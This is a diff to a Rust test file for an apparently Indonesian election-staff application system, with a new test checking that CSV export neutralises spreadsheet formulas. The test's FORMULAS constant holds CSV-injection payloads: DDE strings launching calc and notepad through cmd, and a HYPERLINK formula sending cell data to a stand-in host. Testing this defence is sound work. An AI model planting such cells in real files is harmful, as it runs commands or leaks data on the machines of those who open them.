@@ -55,9 +55,12 @@ async fn a_bad_row_in_the_middle_stores_nothing() {
         .await
         .unwrap();
     assert!(!report.is_stored());
-    assert_eq!(report.problems.len(), 1);
+    assert_eq!(report.problems.listed.len(), 1);
     assert_eq!(
-        (report.problems[0].line, report.problems[0].column.as_str()),
+        (
+            report.problems.listed[0].line,
+            report.problems.listed[0].column.as_str()
+        ),
         (251, "kode_wilayah_tugas")
     );
     assert_eq!(count(&t.db).await, 0);
@@ -109,7 +112,7 @@ async fn one_application_per_person_per_election() {
     .unwrap();
     assert!(!again.is_stored());
     assert!(
-        again.problems[0]
+        again.problems.listed[0]
             .reason
             .contains("Pemilu 2024 – PPK dengan nomor PPK-3514-0001"),
         "{:?}",
@@ -233,4 +236,101 @@ async fn only_the_help_desk_imports() {
         assert_eq!(e.code(), "forbidden", "{role:?}");
     }
     assert_eq!(count(&t.db).await, 0);
+}
+
+/// Cells a spreadsheet would run as formulas (OWASP "CSV injection"), as
+/// staff or a hostile file could have typed them.
+const FORMULAS: [(&str, &str, &str); 3] = [
+    (
+        "=HYPERLINK(\"http://contoh.invalid/?\"&A1;\"Klik\")",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+cmd|' /C notepad'!A0",
+    ),
+    ("-2+3+cmd|' /C calc'!A0", "=1+1", "@Pegawai"),
+    ("Budi Santoso", "Dusun Krajan", "-"),
+];
+
+#[tokio::test]
+async fn export_neutralises_formulas_and_reads_back_the_same_applicants() {
+    let (t, admin) = ready_db().await;
+    let desk = Session {
+        role: Role::Operator,
+        ..admin.clone()
+    };
+    let pemilu = create_from_preset(&t.db, &admin, Preset::Pemilu2024, Body::Ppk, None, now())
+        .await
+        .unwrap();
+    let quote = |s: &str| format!("\"{}\"", s.replace('"', "\"\""));
+    let rows: Vec<String> = FORMULAS
+        .iter()
+        .enumerate()
+        .map(|(i, (name, address, job))| {
+            format!(
+                "351401120890{:04},{},L,Pasuruan,12-08-1990,{},35.14.01.2001,SMA,+62 812 3456 7890,,35.14.01,{}",
+                i + 1,
+                quote(name),
+                quote(address),
+                quote(job)
+            )
+        })
+        .collect();
+    let source = format!("{HEADER},pekerjaan\n{}\n", rows.join("\n"));
+    let report = import(&t.db, &desk, pemilu.id, source.as_bytes(), now())
+        .await
+        .unwrap();
+    assert!(report.is_stored(), "{:?}", report.problems);
+
+    let mut out = Vec::new();
+    export_csv(&t.db, &admin, pemilu.id, &mut out, now())
+        .await
+        .unwrap();
+    let exported = String::from_utf8(out).unwrap();
+    let cells: Vec<Vec<String>> = csv::Reader::from_reader(exported.as_bytes())
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_string).collect())
+        .collect();
+    // A cell a spreadsheet reads as a formula starts with one of these and
+    // is not a plain number (nor a lone dash).
+    let number = |c: &str| {
+        let digits = c.trim_start_matches(['+', '-']);
+        !digits.is_empty() && digits.bytes().all(|b| b.is_ascii_digit())
+    };
+    for row in &cells {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']) || cell == "-" || number(cell),
+                "a spreadsheet would run {cell:?}"
+            );
+        }
+    }
+    assert_eq!(
+        cells[0][2],
+        "'=HYPERLINK(\"http://contoh.invalid/?\"&A1;\"Klik\")"
+    );
+    assert_eq!(cells[1][6], "'=1+1");
+    // A number stays a number, a lone dash stays a dash.
+    assert_eq!(cells[0][9], "+6281234567890");
+    assert_eq!(cells[2][12], "-");
+
+    // The export imports again as the same applicants, into another election.
+    let pilkada = create_from_preset(&t.db, &admin, Preset::Pilkada2024, Body::Ppk, None, now())
+        .await
+        .unwrap();
+    let report = import(&t.db, &desk, pilkada.id, exported.as_bytes(), now())
+        .await
+        .unwrap();
+    assert!(report.is_stored(), "{:?}", report.problems);
+    let mut again = Vec::new();
+    export_csv(&t.db, &admin, pilkada.id, &mut again, now())
+        .await
+        .unwrap();
+    let without_number = |csv: &str| -> Vec<String> {
+        csv.lines()
+            .map(|l| l.split_once(',').unwrap().1.to_string())
+            .collect()
+    };
+    assert_eq!(
+        without_number(&String::from_utf8(again).unwrap()),
+        without_number(&exported)
+    );
 }
